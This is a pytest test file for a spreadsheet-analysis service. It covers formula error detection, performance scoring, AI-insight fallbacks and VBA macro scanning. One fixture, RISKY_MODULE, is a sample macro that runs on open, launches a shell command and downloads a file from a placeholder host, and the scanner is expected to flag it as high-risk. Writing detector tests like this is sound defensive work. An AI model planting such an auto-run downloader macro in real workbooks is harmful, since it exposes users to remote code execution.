from __future__ import annotations

import threading
from pathlib import Path

import pytest
from openpyxl import Workbook

from xlsa_web.domain.models import AiReply, Findings, TierProfile
from xlsa_web.domain.outcome import AppError, Err, ErrorKind, Ok
from xlsa_web.services.ai_assist import AnalysisEnhancer
from xlsa_web.services.analyzers import (
    DEFAULT_ANALYZERS,
    AnalyzerDeps,
    ComprehensiveAnalyzer,
    ErrorDetectionAnalyzer,
    PerformanceAnalyzer,
    VbaAnalyzer,
    risk_level,
)


# -----------------------------
# Test doubles
# -----------------------------
class FakeAiBackend:
    provider_name = "fake"

    def __init__(self, reply=None):
        self.reply = reply or Ok(AiReply(content="Fix B2 by pointing it at A2.", tokens_used=42, model_id="m-speed"))
        self.calls = []

    def send(self, model_id, messages, options=None):
        self.calls.append((model_id, messages))
        return self.reply


class FakeVbaExtractor:
    def __init__(self, modules):
        self.modules = modules

    def extract_modules(self, path: Path):
        return Ok(list(self.modules))


class RaisingAiBackend:
    provider_name = "fake"

    def send(self, model_id, messages, options=None):
        raise AttributeError("'str' object has no attribute 'get'")


class ExplodingStructureAnalyzer:
    def analyze(self, path: Path):
        raise RuntimeError("disk on fire")


# -----------------------------
# Helpers
# -----------------------------
SPEED = TierProfile("speed", "m-speed", 0.1)


def make_workbook(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws["A1"] = 10
    ws["A2"] = 20
    ws["B1"] = "=SUM(A1:A2)"
    ws["B2"] = "=A1/0"
    ws["B3"] = "=B3+1"
    ws["C1"] = "#REF!"
    ws["C2"] = "=IF(A1>5,IF(A2>5,NOW(),0),0)"
    other = wb.create_sheet("Summary")
    other["A1"] = "=SUM(Data!A:A)"
    wb.save(path)
    return path


def make_clean_workbook(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.append(["Item", "Amount"])
    ws.append(["Tea", 3])
    wb.save(path)
    return path


# -----------------------------
# Validation shared by every variant
# -----------------------------
@pytest.mark.parametrize("kind", sorted(DEFAULT_ANALYZERS))
def test_missing_path_is_invalid_input(tmp_path: Path, kind: str):
    analyzer = DEFAULT_ANALYZERS[kind]()
    got = analyzer.analyze(tmp_path / "nope.xlsx", {})
    assert got.is_err()
    assert got.kind == ErrorKind.INVALID_INPUT


@pytest.mark.parametrize("name", ["legacy.xls", "notes.csv", "report.docx"])
def test_unsupported_extension_is_invalid_input(tmp_path: Path, name: str):
    p = tmp_path / name
    p.write_bytes(b"not a workbook")
    got = ComprehensiveAnalyzer().analyze(p, {})
    assert got.kind == ErrorKind.INVALID_INPUT
    assert got.error.message == "Invalid file format"


def test_corrupt_workbook_is_file_processing_error(tmp_path: Path):
    p = tmp_path / "broken.xlsx"
    p.write_bytes(b"this is not a zip")
    got = ComprehensiveAnalyzer().analyze(p, {})
    assert got.kind == ErrorKind.FILE_PROCESSING
    assert got.error.details["file_name"] == "broken.xlsx"


def test_unexpected_exception_becomes_execution_error(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "ok.xlsx")
    analyzer = ComprehensiveAnalyzer(AnalyzerDeps(structure_analyzer=ExplodingStructureAnalyzer()))
    got = analyzer.analyze(path, {})
    assert got.kind == ErrorKind.EXECUTION
    assert "disk on fire" not in got.error.message


# -----------------------------
# Comprehensive
# -----------------------------
def test_comprehensive_finds_errors_and_formulas(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")

    findings = ComprehensiveAnalyzer().analyze(path, {}).unwrap()

    types = {(e["cell"], e["type"]) for e in findings.errors}
    assert ("B2", "division_by_zero") in types
    assert ("B3", "circular_reference") in types
    assert ("C1", "error_value") in types

    assert findings.structure["sheet_count"] == 2
    assert findings.formulas["formula_count"] == 5
    assert findings.formulas["function_usage"]["SUM"] == 2
    assert findings.formulas["max_nesting_depth"] == 3

    summary = findings.summary
    assert summary["sheets_analyzed"] == 2
    assert summary["total_errors"] == len(findings.errors)
    assert summary["error_severity_distribution"]["critical"] == 2
    assert "Fix 2 critical errors immediately" in summary["recommendations"]
    assert findings.ai_insights is None


def test_clean_workbook_has_no_recommendations(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "clean.xlsx")
    findings = ComprehensiveAnalyzer().analyze(path, {}).unwrap()
    assert findings.errors == []
    assert findings.summary["recommendations"] == []
    assert findings.summary["formula_complexity"] == 0


def test_severity_histogram_groups_by_severity():
    findings = Findings(
        structure={"sheet_count": 1},
        errors=[{"severity": "critical"}, {"severity": "critical"}, {"severity": "minor"}],
        formulas={"complexity_score": 85},
    )
    summary = ComprehensiveAnalyzer().summarize(findings)
    assert summary["error_severity_distribution"] == {"critical": 2, "minor": 1}
    assert summary["recommendations"] == [
        "Fix 2 critical errors immediately",
        "Consider simplifying complex formulas for better maintainability",
    ]


def test_summary_without_formula_stage_reports_unknown_complexity():
    summary = ComprehensiveAnalyzer().summarize(Findings(errors=[]))
    assert summary["formula_complexity"] == "unknown"
    assert summary["sheets_analyzed"] == 0


def test_ai_insights_attached_when_requested(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    backend = FakeAiBackend()
    deps = AnalyzerDeps(ai_enhancer=AnalysisEnhancer(backend=backend, default_profile=SPEED))

    findings = ComprehensiveAnalyzer(deps).analyze(path, {"use_ai": True}).unwrap()

    assert findings.ai_insights["content"] == "Fix B2 by pointing it at A2."
    assert findings.ai_insights["tokens_used"] == 42
    assert backend.calls[0][0] == "m-speed"


def test_ai_failure_is_not_fatal(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    backend = FakeAiBackend(reply=Err(AppError.provider("fake", "HTTP 503")))
    deps = AnalyzerDeps(ai_enhancer=AnalysisEnhancer(backend=backend, default_profile=SPEED))

    got = ComprehensiveAnalyzer(deps).analyze(path, {"use_ai": True})

    assert got.is_ok()
    assert got.value.ai_insights is None
    assert got.value.summary["total_errors"] > 0


def test_ai_enhancement_that_raises_is_omitted(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    deps = AnalyzerDeps(ai_enhancer=AnalysisEnhancer(backend=RaisingAiBackend(), default_profile=SPEED))

    got = ComprehensiveAnalyzer(deps).analyze(path, {"use_ai": True})

    assert got.is_ok()
    assert got.value.ai_insights is None
    assert "ai_insights" not in got.value.to_dict()
    assert got.value.summary["total_errors"] > 0


def test_ai_not_called_without_errors(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "clean.xlsx")
    backend = FakeAiBackend()
    deps = AnalyzerDeps(ai_enhancer=AnalysisEnhancer(backend=backend, default_profile=SPEED))

    ComprehensiveAnalyzer(deps).analyze(path, {"use_ai": True}).unwrap()

    assert backend.calls == []


def test_cancelled_token_stops_the_run(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    token = threading.Event()
    token.set()

    got = ComprehensiveAnalyzer().analyze(path, {"cancel_token": token})

    assert got.kind == ErrorKind.EXECUTION
    assert got.error.details["cancelled"] is True


# -----------------------------
# Error detection / performance
# -----------------------------
def test_error_detection_skips_formula_stage(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    findings = ErrorDetectionAnalyzer().analyze(path, {}).unwrap()
    assert findings.formulas is None
    assert findings.summary["total_errors"] == len(findings.errors)


def test_performance_flags_volatile_and_whole_columns(tmp_path: Path):
    path = make_workbook(tmp_path / "book.xlsx")
    findings = PerformanceAnalyzer().analyze(path, {}).unwrap()

    issue_types = {i["type"] for i in findings.performance["issues"]}
    assert {"volatile_functions", "whole_column_references"} <= issue_types
    assert 0 <= findings.summary["performance_score"] < 100


# -----------------------------
# VBA
# -----------------------------
RISKY_MODULE = {
    "name": "Module1",
    "type": "standard",
    "code": 'Sub AutoOpen()\n Shell "cmd /c calc"\n URLDownloadToFile 0, "http://x", "y", 0, 0\nEnd Sub',
    "line_count": 4,
}

SLOW_MODULE = {
    "name": "Module2",
    "type": "standard",
    "code": "Sub Loop1()\nFor i = 1 To 10\n Range(\"A1\").Select\n Sheets(1).Activate\n Range(\"B1\").Select\nNext i\nEnd Sub",
    "line_count": 7,
}


def test_vba_without_modules_is_successful_and_empty(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "clean.xlsx")
    findings = VbaAnalyzer(AnalyzerDeps(vba_extractor=FakeVbaExtractor([]))).analyze(path, {}).unwrap()
    assert findings.vba_modules == []
    assert findings.summary["total_modules"] == 0


def test_vba_security_scan_by_default(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "macro.xlsm")
    deps = AnalyzerDeps(vba_extractor=FakeVbaExtractor([RISKY_MODULE]))

    findings = VbaAnalyzer(deps).analyze(path, {}).unwrap()

    module = findings.vba_modules[0]
    assert module["security"]["risk_score"] == 10
    assert "performance" not in module
    assert findings.summary["security_risk_level"] == "high"
    assert findings.summary["performance_score"] is None
    assert findings.summary["recommendations"] == ["Review 1 high-risk VBA modules for security issues"]


def test_vba_performance_only_when_requested(tmp_path: Path):
    path = make_clean_workbook(tmp_path / "macro.xlsm")
    deps = AnalyzerDeps(vba_extractor=FakeVbaExtractor([SLOW_MODULE]))

    findings = VbaAnalyzer(deps).analyze(path, {"security_scan": False, "performance_analysis": True}).unwrap()

    module = findings.vba_modules[0]
    assert "security" not in module
    assert module["performance"]["score"] < 60
    assert findings.summary["security_risk_level"] == "unknown"
    assert "Optimize 1 VBA modules for better performance" in findings.summary["recommendations"]


@pytest.mark.parametrize(
    "scores,expected",
    [([], "unknown"), ([0, 3], "low"), ([3.5], "medium"), ([7], "medium"), ([8, 7], "high")],
)
def test_risk_level(scores, expected):
    assert risk_level(scores) == expected
